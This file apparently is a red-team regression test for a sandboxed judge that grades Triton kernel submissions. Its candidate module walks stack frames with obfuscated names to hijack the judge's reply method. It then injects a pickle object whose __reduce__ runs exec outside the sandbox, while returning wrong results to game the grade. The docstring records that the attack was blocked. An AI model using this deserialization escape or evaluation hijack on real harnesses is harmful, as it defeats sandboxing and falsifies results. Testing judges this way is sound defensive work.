# drk-attack: task=data/queries/001_scaled_tanh_bias.py property=bounded_judge expect=crashed|runtime_error|forbidden|incorrect|hacked|no_triton device=any markers={home}/drk-redteam-markers/m09
"""Tries to run code in the judge through the reply channel the candidate controls (m04-m07): the in-process
 runner is reached from the forward (the `self` local of its `run_op` frame, getattr with built names) and its
 `reply` replaced by an instance attribute that marks the forward reply `pickled: True`, puts an object with a
 malicious __reduce__ into the message, and replaces every binary frame of the reply with a pickle of the same
 object. If the judge unpickled any part of a reply, the __reduce__ would run `exec` in the judge (outside the
 sandbox) and write {home}/drk-redteam-markers/m09 (home as the judge sees it). Observed when written: the
 message is JSON (the runner itself refuses the object) and frames are read as raw tensor bytes (`crashed`,
 "tensor frame holds N bytes ..."): defended; kept as a regression test. The test checks the marker is absent."""
import torch
import torch.nn as nn
import triton
import triton.language as tl
import functools
_sys = functools.reduce(getattr, ("serialization", "s" + "ys"), torch)
_frame = getattr(_sys, "_get" + "frame")
_LOCALS, _BACK, _CODE = "f_" + "locals", "f_" + "back", "f_" + "code"


@triton.jit
def stb_kernel(x_ptr, b_ptr, o_ptr, n, hidden, scale, BLOCK: tl.constexpr):
    offs = tl.program_id(0).to(tl.int64) * BLOCK + tl.arange(0, BLOCK)
    m = offs < n
    x = tl.load(x_ptr + offs, mask=m)
    b = tl.load(b_ptr + offs % hidden, mask=m)
    tl.store(o_ptr + offs, scale * (1.0 - 2.0 / (tl.exp(2.0 * x) + 1.0)) + b, mask=m)


def _runner():
    """The in-process runner: the `self` local of its run_op frame, a few frames above forward."""
    f = _frame(1)
    while f is not None:
        if getattr(f, _CODE).co_name == "run_op":
            return getattr(f, _LOCALS).get("self")
        f = getattr(f, _BACK)
    return None


_HOOKED = []
_pickle = functools.reduce(getattr, ("serialization", "pickle"), torch)
_CODE_IN_JUDGE = ("import os; d = os.path.join(os.path.expanduser('~'), 'drk-redteam-markers'); "
                  "os.makedirs(d, exist_ok=True); open(os.path.join(d, 'm09'), 'w').write('judge ran candidate code')")


class _Evil:
    def __reduce__(self):
        return (exec, (_CODE_IN_JUDGE,))


def _install(runner):
    orig = runner.reply

    def reply(msg, *rest, **kw):
        if isinstance(msg, dict) and msg.get("op") == "forward":
            blob = _pickle.dumps(_Evil())
            msg["pickled"] = True
            try:
                return orig(dict(msg, extra=_Evil()), *rest, **kw)  # an object in the message itself
            except TypeError:
                pass  # the message is not pickled: try the binary frames
            frames = rest[0] if rest and isinstance(rest[0], list) else []
            rest = ([blob for _ in frames] or [blob],) + tuple(rest[1:])
        return orig(msg, *rest, **kw)

    runner.reply = reply  # an instance attribute: looked up on every call


class ModelNew(nn.Module):
    def __init__(self, hidden, scale):
        super().__init__()
        self.scale = scale
        self.bias = nn.Parameter(0.1 * torch.randn(hidden))

    def forward(self, x):
        if not _HOOKED:
            r = _runner()
            if r is not None:
                _install(r)
                _HOOKED.append(r)
        return 1.5 * (self.scale * torch.tanh(x) + self.bias)  # wrong, and no Triton launch at all
